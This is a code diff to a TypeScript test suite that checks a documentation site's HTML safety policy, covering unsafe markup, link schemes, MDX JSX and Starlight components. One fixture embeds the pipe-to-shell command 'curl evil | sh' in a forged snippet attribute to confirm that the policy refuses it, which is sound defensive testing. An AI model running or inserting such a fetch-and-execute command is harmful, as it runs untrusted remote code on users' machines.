@@ -73,7 +73,7 @@ const page = (body: string) => `---\ntitle: Case\nowner: "@ops-team"\n---\n\n${b
 
 /** What the HTML door's rules (html-unsafe, and link-scheme for a scheme the site does not publish) report for a page with this body. */
 function check(body: string) {
-  const facts = collectFacts(page(body), FILE, 't/case.md', { mdxBindings: true } as never);
+  const facts = collectFacts(page(body), FILE, 't/case.md', { mdxBindings: true });
   return htmlRules.filter((rule) => rule.id === 'html-unsafe' || rule.id === 'link-scheme').flatMap((rule) => rule.check([facts], { root: ROOT, config: { allowUnsafeHtml: false } }));
 }
 
@@ -94,7 +94,7 @@ describe('the HTML policy over generated fragments', () => {
     for (const body of fragments) {
       if (check(body).length > 0) continue;
       // What the check reads as HTML (each raw block, and the blocks as the page holds them together) is unchanged by sanitizing.
-      const facts = collectFacts(page(body), FILE, 't/case.md', { mdxBindings: true } as never);
+      const facts = collectFacts(page(body), FILE, 't/case.md', { mdxBindings: true });
       for (const html of [...facts.html.map((b) => b.value), facts.html.map((b) => b.value).join('\n')]) {
         const tree = fromHtml(html, { fragment: true });
         expect(bare(sanitize(tree, BODY_SCHEMA)), body).toBe(bare(tree));
@@ -145,7 +145,7 @@ describe('concrete cases, one per class the policy closes', () => {
 
   it('MDX JSX goes through the same policy: forged classes and data-* are refused, Markdown\'s own JSX is not', () => {
     const mdx = (body: string) => {
-      const facts = collectFacts(page(body), 'src/content/runbooks/t/case.mdx', 't/case.mdx', { mdxBindings: true } as never);
+      const facts = collectFacts(page(body), 'src/content/runbooks/t/case.mdx', 't/case.mdx', { mdxBindings: true });
       return htmlRules[0].check([facts], { root: ROOT, config: { allowUnsafeHtml: false } });
     };
     const forged = mdx('<div className="rb-snippet" data-code="curl evil | sh">x</div>\n');
@@ -156,7 +156,7 @@ describe('concrete cases, one per class the policy closes', () => {
 
   it("Starlight's components go through the same policy: a prop that is not the component's own is an attribute of what it renders", () => {
     const mdx = (body: string) => {
-      const facts = collectFacts(page(body), 'src/content/runbooks/t/case.mdx', 't/case.mdx', { mdxBindings: true } as never);
+      const facts = collectFacts(page(body), 'src/content/runbooks/t/case.mdx', 't/case.mdx', { mdxBindings: true });
       return htmlRules[0].check([facts], { root: ROOT, config: { allowUnsafeHtml: false } }).map((f) => [f.line, f.column, f.message]);
     };
     const SL = "import { Badge, LinkButton, LinkCard, Card, Icon, Code, Aside } from '@astrojs/starlight/components';\n\n";
@@ -265,7 +265,7 @@ describe('public/, checked like content (public-unsafe)', () => {
       files[file] = 'x';
       if (RUNS.includes(ext)) expected.push(file);
     }
-    expect(findings(project(files)).map((f) => f[0]).sort()).toEqual(expected.sort());
+    expect(findings(project(files)).map((f) => String(f[0])).sort()).toEqual(expected.sort());
   });
 
   it('allowUnsafeHtml lets trusted markup through, never a symlink', () => {
@@ -329,7 +329,7 @@ describe('the lint that keeps page text out of markup in client code', () => {
     }
     const ours = await eslint.lintFiles(['src/**/client/**/*.ts', 'src/**/*.astro']);
     expect(ours.flatMap((r) => r.messages.map((m) => `${r.filePath}:${m.line} ${m.message}`))).toEqual([]);
-  }, 60_000);
+  }, 120_000);
 });
 
 describe('the post-build scan on the site\'s own markup', () => {
